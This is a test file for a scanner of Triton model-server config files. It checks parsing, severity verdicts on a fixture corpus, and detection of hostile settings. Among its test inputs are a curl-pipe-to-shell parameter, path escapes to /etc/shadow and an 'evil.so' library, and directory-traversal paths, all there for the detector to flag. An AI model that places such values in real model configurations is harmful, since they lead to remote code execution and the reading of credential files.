import { readFileSync, readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../core/byte-source.js';
import { highestSeverity, isAtLeast } from '../severity.js';
import { parsePbtxt, pbList, type PbMessage } from './pbtxt.js';
import { parseTritonConfig, readTritonConfig } from './triton-config.js';

const FIXTURES = fileURLToPath(new URL('./fixtures/', import.meta.url));
const files = readdirSync(FIXTURES).filter((f) => f.endsWith('.config.pbtxt'));
const verdicts = new Map(
  readFileSync(FIXTURES + 'SOURCES.tsv', 'utf8')
    .split('\n')
    .map((l) => l.split('\t'))
    .map((c) => [c[0] ?? '', c[6] ?? ''] as const),
);
const ids = (r: { findings: { id: string }[] }) => r.findings.map((f) => f.id);
const fixtureText = (f: string) => readFileSync(FIXTURES + f, 'utf8');

describe('readTritonConfig on the corpus', () => {
  it('has every corpus config', () => {
    expect(files.length).toBe(24);
  });

  for (const file of files) {
    it(`parses ${file} and meets its expected verdict (${verdicts.get(file)})`, async () => {
      const r = await readTritonConfig(bufferSource(file, new Uint8Array(readFileSync(FIXTURES + file))));
      expect(ids(r)).not.toContain('format.malformed');
      const worst = highestSeverity(r.findings.map((f) => f.severity)) ?? 'info';
      const verdict = verdicts.get(file);
      if (verdict === 'malicious') expect(isAtLeast(worst, 'medium'), JSON.stringify(r.findings)).toBe(true);
      // Benign configs: at most low (python backend = info, repository agents = low).
      if (verdict === 'benign') expect(isAtLeast(worst, 'medium'), JSON.stringify(r.findings)).toBe(false);
    });
  }

  it('rates the runtime escape high and names the path', () => {
    const r = parseTritonConfig(fixtureText('qa_special_runtime_escape.config.pbtxt'));
    expect(r.findings.map((f) => [f.id, f.severity, f.location])).toEqual([['triton.path-escape', 'high', 'runtime']]);
    expect(r.findings[0]!.message).toContain('../dummy_runtime/libtriton_identity.so');
    expect(r.backend).toBe('identity');
  });

  it('notes python backends, repository agents, unknown platforms and unbounded inputs', () => {
    expect(ids(parseTritonConfig(fixtureText('qa_python_bls.config.pbtxt')))).toEqual(['triton.backend.python']);
    expect(ids(parseTritonConfig(fixtureText('docs_simple_identity.config.pbtxt')))).toEqual(['triton.backend.python', 'triton.input.unbounded-dims']);
    expect(parseTritonConfig(fixtureText('qa_repo_agent_chain_relocation.config.pbtxt')).findings.map((f) => [f.id, f.severity])).toEqual([
      ['triton.repo-agent', 'low'],
      ['triton.repo-agent', 'low'],
    ]);
    expect(parseTritonConfig(fixtureText('qa_special_invalid_platform.config.pbtxt')).findings.map((f) => [f.id, f.severity])).toEqual([['triton.platform.unknown', 'info']]);
    expect(ids(parseTritonConfig(fixtureText('qa_ensemble_circular_dependency.config.pbtxt')))).toEqual([]);
  });

  it('builds the config object the way model_config.proto reads', () => {
    const dense = parseTritonConfig(fixtureText('docs_densenet_onnx.config.pbtxt')).config;
    const input = pbList(dense, 'input')[0] as PbMessage;
    expect([dense['name'], dense['max_batch_size'], input['data_type'], input['format'], input['dims']]).toEqual(['densenet_onnx', 0, 'TYPE_FP32', 'FORMAT_NCHW', [3, 224, 224]]);
    expect((input['reshape'] as PbMessage)['shape']).toEqual([1, 3, 224, 224]);
    const mlflow = parseTritonConfig(fixtureText('mlflow_onnx_float32_int32_int32.config.pbtxt')).config;
    expect(pbList(mlflow, 'input').map((i) => (i as PbMessage)['name'])).toEqual(['INPUT0', 'INPUT1']);
    const seq = parseTritonConfig(fixtureText('docs_simple_dyna_sequence.config.pbtxt')).config;
    const param = pbList(seq, 'parameters')[0] as PbMessage;
    expect([param['key'], (param['value'] as PbMessage)['string_value']]).toEqual(['execute_delay_ms', '3']);
    const autofill = parseTritonConfig(fixtureText('qa_autofill_pytorch_cpu_instance.config.pbtxt')).config;
    expect(pbList(autofill, 'input').map((i) => (i as PbMessage)['dims'])).toEqual([16, 16]);
  });
});

describe('parsePbtxt', () => {
  it('handles the text-format syntax Triton accepts', () => {
    const { message, error } = parsePbtxt(
      `a: "x" 'y' "\\x41\\101\\n" # comment\n b < c: -1.5e3 d: 0x10 e: inf f: true >; g: [ ] h [ { i: 1 }, { i: 2 } ], j: ENUM_V k: -7f`,
    );
    expect(error).toBeNull();
    expect(message).toEqual({ a: 'xyAA\n', b: { c: -1500, d: 16, e: Infinity, f: true }, g: [], h: [{ i: 1 }, { i: 2 }], j: 'ENUM_V', k: -7 });
  });

  it('reports syntax errors with a position, keeping what parsed before', () => {
    for (const bad of ['a: "unterminated', 'a { b: 1', 'a: }', 'a 1', 'a: [1 2]', 'a: "\\q"', '{', 'a: @']) {
      const r = parsePbtxt(`ok: 1\n${bad}`);
      expect(r.error, bad).not.toBeNull();
      expect(r.error!.line).toBe(2);
      expect(r.message['ok']).toBe(1);
    }
  });

  it('bounds nesting and size, keeps __proto__ as data', () => {
    expect(parsePbtxt('a {'.repeat(10_000) + '}'.repeat(10_000)).error?.message).toMatch(/nested deeper than 100/);
    expect(parsePbtxt('a: 1 '.repeat(1_000_000)).error?.message).toMatch(/longer than/);
    const proto = parsePbtxt('__proto__ { polluted: 1 } constructor: 2').message;
    expect(Object.getPrototypeOf(proto)).toBeNull();
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(proto['__proto__']).toEqual({ polluted: 1 });
  });
});

describe('parseTritonConfig on hostile variants', () => {
  const cfg = (body: string) => parseTritonConfig(`name: "m"\n${body}`);

  it('flags paths leaving the model folder', () => {
    for (const body of [
      'runtime: "/usr/lib/evil.so"',
      'backend: "../../tmp/x"',
      'default_model_filename: "../other_model/model.plan"',
      'cc_model_filenames [ { key: "8.0" value: "C:\\\\evil.plan" } ]',
      'output [ { name: "o" label_filename: "/etc/shadow" } ]',
      'backend: "python" parameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "$$TRITON_MODEL_DIRECTORY/../../env.tar.gz" } }',
    ]) {
      expect(ids(cfg(body)), body).toContain('triton.path-escape');
    }
    expect(ids(cfg('backend: "python" parameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz" } }'))).toEqual([
      'triton.backend.python',
      'triton.python.execution-env',
    ]);
  });

  it('flags shell in parameters, custom backends, self-referencing ensembles, checksum agents', () => {
    expect(ids(cfg('parameters { key: "hook" value { string_value: "curl http://x/p.sh | sh" } }'))).toEqual(['triton.parameter.shell']);
    expect(ids(cfg('backend: "my_custom"'))).toEqual(['triton.backend.unknown']);
    expect(ids(cfg('platform: "ensemble" ensemble_scheduling { step [ { model_name: "m" } ] }'))).toEqual(['triton.ensemble.self-reference']);
    expect(cfg('model_repository_agents { agents [ { name: "checksum" parameters { key: "MD5:model.onnx" value: "abc" } } ] }').findings.map((f) => [f.id, f.severity])).toEqual([['triton.repo-agent.checksum', 'info']]);
  });

  it('reports malformed and oversized files without throwing', async () => {
    expect(ids(cfg('input [ { name: "x" dims: [ -1 ] }'))).toEqual(['format.malformed', 'triton.input.unbounded-dims']);
    const big = await readTritonConfig({ name: 'c', size: 5 * 2 ** 20, read: () => Promise.resolve(new Uint8Array(0)) });
    expect(ids(big)).toEqual(['format.limit-exceeded']);
    const failing = await readTritonConfig({ name: 'c', size: 10, read: () => Promise.reject(new Error('EIO')) });
    expect(ids(failing)).toEqual(['format.unreadable']);
  });
});
